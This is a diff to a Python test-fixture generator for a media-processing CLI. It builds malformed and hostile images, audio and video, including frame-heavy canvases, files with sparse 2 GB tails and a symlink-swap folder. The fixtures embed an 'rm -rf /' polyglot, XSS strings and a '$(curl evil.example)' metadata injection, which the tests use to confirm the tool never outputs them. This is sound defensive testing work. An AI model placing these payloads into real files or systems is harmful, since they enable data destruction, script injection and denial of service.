@@ -22,16 +22,31 @@ from PIL import Image
 OK, BAD_INPUT = 0, 4
 
 
+NOT_COMPLIANT = 5
+# The bound on every case, in `check` and in `prepare` alike (issue 12): wall clock
+# of the whole CLI run and peak memory of the largest process in it.
+MAX_SECONDS = 10.0
+MAX_RSS_MB = 500
+# Appended to a valid file as a sparse tail: gigabytes that take no disk.
+SPARSE_TAIL = 2 << 30
+
+
 @dataclass(frozen=True)
 class Case:
     name: str  # file name in the corpus (extension chosen to mislead where that is the point)
-    expect_exit: int
+    expect_exit: int  # what `prepare` must answer
     message: str = ""  # fragment the one-line error must contain (lower case)
     payloads: tuple[bytes, ...] = ()  # must not appear in any output
     needs: str = ""  # "voice" | "video": the fit module the case exercises
-    max_seconds: float = 30.0  # wall clock the whole CLI run may take
+    max_seconds: float = MAX_SECONDS  # wall clock the whole CLI run may take
     notes: str = ""
     reads_canary: bool = field(default=False)  # points at the canary file / socket
+    check_exit: int | None = None  # what `check` must answer; None: as prepare
+    max_rss_mb: int = MAX_RSS_MB
+
+    @property
+    def expect_check(self) -> int:
+        return self.expect_exit if self.check_exit is None else self.check_exit
 
 
 def _chunk(kind: bytes, data: bytes) -> bytes:
@@ -88,6 +103,69 @@ def _cyclic_exif() -> bytes:
     return data[:2] + b"\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1 + data[2:]
 
 
+def canvas_gif(width: int, height: int, frames: int) -> bytes:
+    """A large canvas and many one-pixel frames (a 2-colour table, 1/100 s each): 46 KB
+    for 5000x5000 and 2,000 frames, and minutes of work for a probe that seeks the
+    frames (a decoder redraws the whole canvas for each)."""
+    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
+    control = b"\x21\xf9\x04\x00\x01\x00\x00\x00"
+    frame = control + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
+    return head + frame * frames + b"\x3b"
+
+
+def canvas_apng(width: int, height: int, frames: int) -> bytes:
+    """The same as an animated PNG: a grey default image of the canvas size (it
+    compresses to a few hundred KB), then ``frames`` one-pixel frames."""
+    row = b"\0" + b"\x80" * width
+    zc = zlib.compressobj(9)
+    idat = b"".join(zc.compress(row) for _ in range(height)) + zc.flush()
+    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit grey
+    out = [b"\x89PNG\r\n\x1a\n", _chunk(b"IHDR", ihdr), _chunk(b"acTL", struct.pack(">II", frames, 0))]
+    seq = 0
+    out.append(_chunk(b"fcTL", struct.pack(">IIIIIHHBB", seq, width, height, 0, 0, 1, 100, 0, 0)))
+    out.append(_chunk(b"IDAT", idat))
+    pixel = zlib.compress(b"\0\xff")
+    for _ in range(frames - 1):
+        seq += 1
+        out.append(_chunk(b"fcTL", struct.pack(">IIIIIHHBB", seq, 1, 1, 0, 0, 1, 100, 0, 0)))
+        seq += 1
+        out.append(_chunk(b"fdAT", struct.pack(">I", seq) + pixel))
+    out.append(_chunk(b"IEND", b""))
+    return b"".join(out)
+
+
+def _riff_chunk(kind: bytes, payload: bytes) -> bytes:
+    return kind + struct.pack("<I", len(payload)) + payload + (b"\0" if len(payload) & 1 else b"")
+
+
+def canvas_webp(width: int, height: int, frames: int) -> bytes:
+    """The same as an animated WebP: ``frames`` ANMF frames, each the same 1x1
+    lossless bitstream, on a canvas of the given size."""
+    buf = io.BytesIO()
+    Image.new("RGB", (1, 1), (200, 30, 30)).save(buf, "WEBP", lossless=True)
+    vp8l = buf.getvalue()[12:]  # the one VP8L chunk of a simple file
+    vp8x = _riff_chunk(b"VP8X", bytes([0x02, 0, 0, 0]) + (width - 1).to_bytes(3, "little")
+                       + (height - 1).to_bytes(3, "little"))
+    anim = _riff_chunk(b"ANIM", bytes(6))
+    frame = _riff_chunk(b"ANMF", bytes(12) + (10).to_bytes(3, "little") + b"\0" + vp8l)
+    body = b"WEBP" + vp8x + anim + frame * frames
+    return b"RIFF" + struct.pack("<I", len(body)) + body
+
+
+def ffda_in_comment() -> bytes:
+    """A valid one-scan JPEG whose comment holds the bytes of 500 SOS markers."""
+    data = _jpeg((64, 48), quality=80)
+    com = b"\xff\xda" * 500
+    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(com) + 2) + com + data[2:]
+
+
+def with_sparse_tail(path: Path, data: bytes, tail: int = SPARSE_TAIL) -> None:
+    """Write ``data`` and extend the file with ``tail`` zero bytes that take no disk."""
+    path.write_bytes(data)
+    with open(path, "r+b") as fh:
+        fh.truncate(len(data) + tail)
+
+
 def image_cases(dest: Path) -> list[Case]:
     cases: list[tuple[Case, bytes]] = [
         (Case("bomb_png.png", BAD_INPUT, "exceed"), _png(100_000, 100_000, idat=zlib.compress(b"\0" * 4096))),
@@ -114,21 +192,58 @@ def image_cases(dest: Path) -> list[Case]:
         (Case("doc.png", BAD_INPUT, "pdf"), b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"),
         (Case("polyglot_zip.jpg", OK, payloads=(b"PK\x03\x04", b"evil.sh")),
          _jpeg((64, 48), quality=80) + b"PK\x03\x04" + b"\0" * 26 + b"evil.sh" + b"#!/bin/sh\nrm -rf /\n\xff\xd9"),
-        (Case("polyglot_js.gif", OK, payloads=(b"alert(",)),
+        (Case("polyglot_js.gif", OK, check_exit=NOT_COMPLIANT, payloads=(b"alert(",)),
          _gif(16, 16) + b"*/=1;alert(document.cookie);/*"),
-        (Case("polyglot_html.png", OK, payloads=(b"<script>",)),
+        (Case("polyglot_html.png", OK, check_exit=NOT_COMPLIANT, payloads=(b"<script>",)),
          _png(16, 16, extra=_chunk(b"tEXt", b"Comment\0<script>alert(1)</script>"))
          + b"<html><script>alert(2)</script>"),
     ]
-    gif_frames = [Image.new("P", (8, 8), i % 256) for i in range(3000)]
-    buf = io.BytesIO()
-    gif_frames[0].save(buf, "GIF", save_all=True, append_images=gif_frames[1:], duration=10)
-    cases.append((Case("many_frames.gif", OK, notes="3000 frames: first frame only, fast"), buf.getvalue()))
+    # (Built by hand: Pillow's encoder merges frames that look alike into one.)
+    cases.append((Case("many_frames.gif", OK, notes="3000 frames: first frame only, fast",
+                       check_exit=NOT_COMPLIANT), canvas_gif(8, 8, 3000)))
+    # Large canvases of many tiny frames: counted from the container, never seeked.
+    canvases = "5000x5000 canvas, 2,000 one-pixel frames: counted from the blocks"
+    cases += [
+        (Case("canvas_frames.gif", OK, notes=canvases, check_exit=NOT_COMPLIANT),
+         canvas_gif(5000, 5000, 2000)),
+        # 100 MP, our pixel limit: prepare decodes the first frame as it would any
+        # 100 MP picture (300 MB of RGB, ~530 MB in all), bounded by safety.memory_mb.
+        (Case("canvas_frames_10k.gif", OK, notes="10000x10000, 2,000 frames",
+              check_exit=NOT_COMPLIANT, max_rss_mb=700), canvas_gif(10000, 10000, 2000)),
+        (Case("canvas_frames.png", OK, notes=canvases, check_exit=NOT_COMPLIANT),
+         canvas_apng(5000, 5000, 2000)),
+        (Case("canvas_frames.webp", OK, notes=canvases, check_exit=NOT_COMPLIANT),
+         canvas_webp(5000, 5000, 2000)),
+        (Case("ffda_comment.jpg", OK, payloads=(b"\xff\xda\xff\xda",),
+              notes="FF DA bytes in a comment are not scans"), ffda_in_comment()),
+    ]
     out = []
     for case, data in cases:
         (dest / case.name).write_bytes(data)
         out.append(case)
+    # A valid JPEG followed by 2 GB of (sparse) zeros: never read, never copied.
+    with_sparse_tail(dest / "sparse_tail.jpg", _jpeg((640, 480), quality=85))
+    out.append(Case("sparse_tail.jpg", OK, check_exit=NOT_COMPLIANT, payloads=(b"\0" * 4096,),
+                    notes="2 GB of zeros after the image"))
     return out
+
+
+def swap_corpus(dest: Path) -> tuple[Path, Path, Path]:
+    """A batch source folder for the symlink swap: two large photos (prepared first:
+    a batch starts with the heaviest files) and a small ``victim.jpg``, plus a photo
+    outside the folder. While the batch works on the large photos, the test swaps
+    ``victim.jpg`` for a link to the outside photo (or for another file); the batch
+    must not read it. Returns (source folder, victim, outside photo)."""
+    src = dest / "swap_src"
+    src.mkdir(parents=True, exist_ok=True)
+    for name in ("big1.jpg", "big2.jpg"):
+        Image.effect_noise((2400, 1800), 60).convert("RGB").save(src / name, quality=92)
+    victim = src / "victim.jpg"
+    victim.write_bytes(_jpeg((64, 48), quality=80))
+    outside = dest / "outside_secret.jpg"
+    Image.new("RGB", (640, 480), (10, 200, 30)).save(outside, "JPEG", quality=90,
+                                                       comment=b"SECRET-OUTSIDE-SRC")
+    return src, victim, outside
 
 
 def _ff(ffmpeg: str, *args: str) -> None:
@@ -156,7 +271,8 @@ def av_cases(dest: Path, ffmpeg: str, canary: Path, port: int) -> list[Case]:
     data_at = wav.find(b"data")
     wav[data_at + 4:data_at + 8] = struct.pack("<I", claim)
     (d / "wav10h.wav").write_bytes(bytes(wav))
-    out.append(Case("wav10h.wav", OK, needs="voice", notes="header claims 10 h; 1 s of samples"))
+    out.append(Case("wav10h.wav", OK, check_exit=NOT_COMPLIANT, needs="voice",
+                    notes="header claims 10 h; 1 s of samples"))
     _ff(ffmpeg, "-f", "lavfi", "-i", "testsrc=d=1:s=160x120:r=10", "-f", "lavfi", "-i", "sine=d=1",
         "-c:v", "libx264", "-c:a", "aac", "-shortest", str(d / "mp4_10h.mp4"))
     mp4 = bytearray((d / "mp4_10h.mp4").read_bytes())
@@ -165,7 +281,8 @@ def av_cases(dest: Path, ffmpeg: str, canary: Path, port: int) -> list[Case]:
         timescale = struct.unpack(">I", mp4[mvhd + 16:mvhd + 20])[0]
         mp4[mvhd + 20:mvhd + 24] = struct.pack(">I", min(timescale * 36000, 0xFFFFFFFF))
     (d / "mp4_10h.mp4").write_bytes(bytes(mp4))
-    out.append(Case("mp4_10h.mp4", OK, needs="video", notes="mvhd claims 10 h; 1 s of frames"))
+    out.append(Case("mp4_10h.mp4", OK, check_exit=NOT_COMPLIANT, needs="video",
+                    notes="mvhd claims 10 h; 1 s of frames"))
     # A genuinely 10-hour (silent) FLAC: refused by our duration limit, quickly.
     # (1 kHz and 64K-sample frames keep it 16 KB and quick to make; the length is real.)
     _ff(ffmpeg, "-f", "lavfi", "-i", "anullsrc=r=1000:cl=mono", "-t", "36000", "-c:a", "flac",
@@ -182,14 +299,22 @@ def av_cases(dest: Path, ffmpeg: str, canary: Path, port: int) -> list[Case]:
     # Odd dimensions, audio-only MP4, a script in the title.
     _ff(ffmpeg, "-f", "lavfi", "-i", "testsrc=d=1:s=65x33:r=10", "-c:v", "libx264",
         "-pix_fmt", "yuv444p", str(d / "odd65x33.mp4"))
-    out.append(Case("odd65x33.mp4", OK, needs="video"))
+    out.append(Case("odd65x33.mp4", OK, check_exit=NOT_COMPLIANT, needs="video"))
     _ff(ffmpeg, "-f", "lavfi", "-i", "sine=d=2", "-c:a", "aac", str(d / "audio_only.mp4"))
-    out.append(Case("audio_only.mp4", OK, needs="voice"))
+    out.append(Case("audio_only.mp4", OK, check_exit=NOT_COMPLIANT, needs="voice"))
     _ff(ffmpeg, "-f", "lavfi", "-i", "testsrc=d=1:s=160x120:r=10", "-f", "lavfi", "-i", "sine=d=1",
         "-c:v", "libx264", "-c:a", "aac", "-shortest",
         "-metadata", "title=<script>alert('title')</script>",
         "-metadata", "comment=$(curl evil.example)", str(d / "script_title.mp4"))
-    out.append(Case("script_title.mp4", OK, payloads=(b"<script>", b"curl evil"), needs="video"))
+    out.append(Case("script_title.mp4", OK, check_exit=NOT_COMPLIANT, payloads=(b"<script>", b"curl evil"),
+                    needs="video"))
+    # A valid MP4 followed by 2 GB of (sparse) zeros.
+    _ff(ffmpeg, "-f", "lavfi", "-i", "testsrc=d=1:s=160x120:r=10", "-f", "lavfi", "-i", "sine=d=1",
+        "-c:v", "libx264", "-profile:v", "main", "-pix_fmt", "yuv420p", "-c:a", "aac", "-shortest",
+        "-movflags", "+faststart", str(d / "sparse_tail.mp4"))
+    with_sparse_tail(d / "sparse_tail.mp4", (d / "sparse_tail.mp4").read_bytes())
+    out.append(Case("sparse_tail.mp4", OK, needs="video", check_exit=NOT_COMPLIANT,
+                    notes="2 GB of zeros after the movie"))
     return out
 
 
